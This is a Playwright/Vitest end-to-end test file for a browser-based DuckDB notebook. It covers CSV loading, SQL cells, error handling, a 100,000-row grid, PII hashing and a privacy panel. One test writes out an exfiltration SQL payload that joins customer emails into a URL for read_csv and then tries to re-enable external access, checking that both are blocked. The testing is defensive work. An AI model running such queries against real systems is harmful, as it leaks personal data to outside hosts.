/**
 * The walking skeleton's user journeys, in headless Chromium against the built site on a plain
 * static server: load a CSV through the file input, read its Data cell, run a SQL cell, see a
 * bad query's error, recover from bad files, load the sample, scroll a 100,000-row result, and
 * prove from the browser's request log that nothing left the page's origin.
 */
import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath, foreignRequests, openSession, type Session } from '../helpers/browser';
import { serve } from '../helpers/serve.mjs';
import { fillSql } from '../helpers/ui';

const fixtures = join(import.meta.dirname, '../fixtures');
const browser = chromiumPath();
if (!browser && process.env.CI)
	throw new Error('CI=true but no Chromium: install Debian chromium.');
if (!browser)
	console.warn('No Chromium found: end-to-end tests are skipped. Install Debian chromium.');
if (!existsSync('dist/index.html')) throw new Error('dist/ is missing: run `npm run build` first.');

let site: Awaited<ReturnType<typeof serve>>;
let session: Session;
let page: Page;
// A listener of ours on another port: nothing may ever reach it.
let sink: Server;
const sinkHits: string[] = [];
let sinkUrl = '';

async function runSql(cellName: string, sqlText: string): Promise<void> {
	const cell = page.getByRole('region', { name: cellName });
	await fillSql(cell, sqlText);
	await cell.getByRole('button', { name: 'Run cell' }).click();
}

/** Visible text with whitespace collapsed, as a person reads it. */
async function textOf(locator: { textContent(): Promise<string | null> }): Promise<string> {
	return ((await locator.textContent()) ?? '').replace(/\s+/g, ' ');
}

describe.skipIf(!browser)('walking skeleton in Chromium', () => {
	beforeAll(async () => {
		site = await serve({ dir: 'dist' });
		sink = createServer((req, res) => {
			sinkHits.push(req.url ?? '');
			res.end('x');
		});
		await new Promise<void>((ok) => sink.listen(0, '127.0.0.1', () => ok()));
		const address = sink.address();
		sinkUrl = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
		session = await openSession();
		page = session.page;
		await page.goto(site.url);
		await page
			.getByRole('status')
			.filter({ hasText: /Ready ·/ })
			.waitFor({ timeout: 60_000 });
	});

	afterAll(async () => {
		await session?.close();
		await site?.close();
		sink?.close();
	});

	it('opens on the welcome screen with the load controls', async () => {
		expect(await page.getByRole('region', { name: 'Welcome' }).isVisible()).toBe(true);
		expect(await page.getByLabel('Load data file').count()).toBe(1);
		expect(await page.getByRole('button', { name: 'Load sample data' }).isVisible()).toBe(true);
	});

	it('loads a CSV through the file input and profiles it in a Data cell', async () => {
		await page.getByLabel('Load data file').setInputFiles(join(fixtures, 'orders.csv'));
		const data = page.getByRole('region', { name: 'Data: orders' });
		await data.waitFor({ timeout: 30_000 });
		await expect.poll(() => textOf(data), { timeout: 30_000 }).toMatch(/6 rows/);
		const text = await textOf(data);
		expect(text).toMatch(/7 lines = 1 header \+ 6 loaded \+ 0 rejected ✓/);
		expect(text).toContain('Personal data: e-mail');
		expect(text).toContain('Personal data: name');
		const amountType = data.getByRole('combobox', { name: 'Type of amount' });
		expect(await amountType.inputValue()).toBe('DOUBLE');
	});

	it('runs a SQL cell and shows the result in a grid with row count and time', async () => {
		await runSql(
			'SQL cell 2',
			'SELECT customer_name, sum(amount) AS spend FROM orders GROUP BY ALL ORDER BY spend DESC'
		);
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		const grid = cell.getByRole('grid');
		await grid.waitFor({ timeout: 30_000 });
		expect(await grid.getAttribute('aria-rowcount')).toBe('5');
		expect(await cell.getByRole('gridcell').first().textContent()).toBe('Bob Ray');
		expect(await textOf(cell)).toMatch(/4 rows · 2 columns · \d+ ms/);
		expect(await grid.textContent()).toContain('Bob Ray');
	});

	it("shows DuckDB's error for a bad query, and the cell still works after", async () => {
		await runSql('SQL cell 2', 'SELECT nope FROM orders');
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		const alert = cell.getByRole('alert');
		await alert.waitFor({ timeout: 30_000 });
		expect(await alert.textContent()).toMatch(/Referenced column "nope" not found/);
		await runSql('SQL cell 2', 'SELECT count(*) AS n FROM orders');
		await cell.getByRole('grid').waitFor({ timeout: 30_000 });
		expect(await cell.getByRole('alert').count()).toBe(0);
	});

	it('refuses to reach the network from SQL, with a plain message', async () => {
		await runSql(
			'SQL cell 2',
			`SET VARIABLE u = (SELECT '${sinkUrl}/leak?d=' || string_agg(email, ',') FROM orders); SELECT * FROM read_csv(getvariable('u'))`
		);
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		await cell.getByRole('alert').waitFor({ timeout: 30_000 });
		expect(await cell.getByRole('alert').textContent()).toMatch(
			/Network and file access are disabled|disabled by configuration/
		);
		await runSql('SQL cell 2', `SET enable_external_access = true`);
		await expect
			.poll(() => cell.getByRole('alert').textContent(), { timeout: 30_000 })
			.toMatch(/locked/);
		expect(sinkHits).toEqual([]);
	});

	it('reports ragged lines as rejected and explains an empty file, then keeps going', async () => {
		await page
			.getByLabel('Load data file')
			.setInputFiles([join(fixtures, 'empty.csv'), join(fixtures, 'ragged.csv')]);
		const alert = page.getByRole('alert').filter({ hasText: 'empty.csv' });
		await alert.waitFor({ timeout: 30_000 });
		expect(await alert.textContent()).toMatch(/empty\.csv is empty/);
		const ragged = page.getByRole('region', { name: 'Data: ragged' });
		await ragged.waitFor({ timeout: 30_000 });
		await expect
			.poll(() => textOf(ragged))
			.toMatch(/5 lines = 1 header \+ 2 loaded \+ 2 rejected ✗/);
		expect(await ragged.textContent()).toMatch(/Rejected lines \(2\)/);
	});

	it('scrolls a 100,000-row result in the virtualised grid', async () => {
		await runSql('SQL cell 2', 'SELECT range AS i, range * 2 AS twice FROM range(100000)');
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		const grid = cell.getByRole('grid');
		await expect.poll(() => grid.getAttribute('aria-rowcount'), { timeout: 30_000 }).toBe('100001');
		// Only a window of rows is in the DOM.
		expect(await grid.getByRole('row').count()).toBeLessThan(80);
		await grid.locator('.body').evaluate((el) => el.scrollTo(0, el.scrollHeight));
		await expect.poll(() => grid.textContent()).toContain('199998');
	});

	it('generates the sample in the worker: customers and transactions', async () => {
		await page.getByRole('button', { name: 'Load sample data' }).click();
		const dialog = page.getByRole('dialog', { name: 'Load sample data' });
		await dialog.getByRole('combobox', { name: 'Size' }).selectOption('1000');
		await dialog.getByRole('button', { name: 'Generate sample' }).click();
		const customers = page.getByRole('region', { name: 'Data: customers' });
		await customers.waitFor({ timeout: 60_000 });
		await expect.poll(() => textOf(customers), { timeout: 60_000 }).toMatch(/1,000 rows/);
		await page.getByRole('region', { name: 'Data: transactions' }).waitFor();
	});

	it('replaces a personal-data column by salted hashes before anything else sees it', async () => {
		const data = page.getByRole('region', { name: 'Data: orders' });
		await data.getByRole('combobox', { name: 'Personal data in email' }).selectOption('hash');
		await expect
			.poll(() => textOf(data), { timeout: 30_000 })
			.toMatch(/email is replaced by salted hashes/);
		await runSql('SQL cell 2', 'SELECT DISTINCT email FROM orders ORDER BY 1');
		const cell = page.getByRole('region', { name: 'SQL cell 2' });
		await expect
			.poll(() => cell.getByRole('gridcell').first().textContent(), { timeout: 30_000 })
			.toMatch(/^h_[0-9a-f]{16}$/);
	});

	it('sent no request to any origin but its own', () => {
		expect(session.pageErrors).toEqual([]);
		expect(foreignRequests(session.requests, site.url)).toEqual([]);
		expect(sinkHits).toEqual([]);
	});
});

describe.skipIf(!browser)('privacy panel', () => {
	it('shows zero requests to other sites and erases what is stored', async () => {
		const site = await serve({ dir: 'dist' });
		const session = await openSession();
		try {
			const page = session.page;
			await page.goto(site.url);
			await page
				.getByRole('status')
				.filter({ hasText: /Ready ·/ })
				.waitFor({ timeout: 60_000 });
			await page.getByRole('button', { name: /^Privacy/ }).click();
			const dialog = page.getByRole('dialog', { name: 'Privacy' });
			await expect
				.poll(() => dialog.textContent())
				.toMatch(/Requests to other sites\s*0 \(0 bytes\)/);
			page.once('dialog', (d) => void d.accept());
			await dialog.getByRole('button', { name: 'Forget all data' }).click();
			await expect.poll(() => dialog.textContent()).toMatch(/0 notebooks/);
		} finally {
			await session.close();
			await site.close();
		}
	});
});
